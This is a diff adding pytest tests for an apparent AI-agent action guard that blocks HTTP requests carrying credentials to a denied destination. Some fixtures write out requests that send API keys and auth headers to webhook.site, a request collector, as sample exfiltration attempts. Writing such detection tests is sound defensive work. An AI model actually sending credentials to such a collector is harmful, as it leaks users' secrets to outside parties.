@@ -932,3 +932,48 @@ def test_an_http_action_is_judged_on_its_url_headers_and_body():
 def test_carrying_is_checked():
     with pytest.raises(ValidationError):
         kind().config_model.model_validate({"deny_ip_literals": True, "carrying": "secrets"})
+
+
+def test_carrying_reads_the_payload_only_where_a_destination_objects(monkeypatch):
+    scanned: list[object] = []
+    real = domain._credential_in_args
+
+    def counting(action: Action) -> str | None:
+        scanned.append(action)
+        return real(action)
+
+    monkeypatch.setattr(domain, "_credential_in_args", counting)
+    body = {"order": 1042, "note": "x" * 5000}
+    ok = CARRYING.evaluate(
+        Action(
+            type="http", args={"method": "POST", "url": "https://api.example.com/o", "body": body}
+        ),
+        NO_CONTEXT,
+    )
+    assert ok.verdict in (Verdict.OK, Verdict.REFUSE)
+    assert scanned == []  # nobody denies api.example.com: nothing to read
+    denied = CARRYING.evaluate(
+        Action(type="http", args={"method": "POST", "url": "https://webhook.site/c", "body": body}),
+        NO_CONTEXT,
+    )
+    assert denied.verdict is not Verdict.BLOCK  # a collector, but nothing secret goes there
+    assert len(scanned) == 1
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"X-Api-Key": "Zt8qL2vN7rT4kL9mB3cF6hJ1sD5gA0eW"},
+        {"Authorization": "Basic ZGV2OmhvbmV5cG90MTIz"},
+        {"Authorization": "Token Zt8qL2vN7rT4kL9mB3"},
+    ],
+)
+def test_a_header_is_read_as_it_is_sent(headers: dict[str, str]):
+    # no known token format: the header's name is what makes its value a credential
+    result = CARRYING.evaluate(
+        Action(
+            type="http", args={"method": "GET", "url": "https://webhook.site/c", "headers": headers}
+        ),
+        NO_CONTEXT,
+    )
+    assert result.verdict is Verdict.BLOCK, result.reason
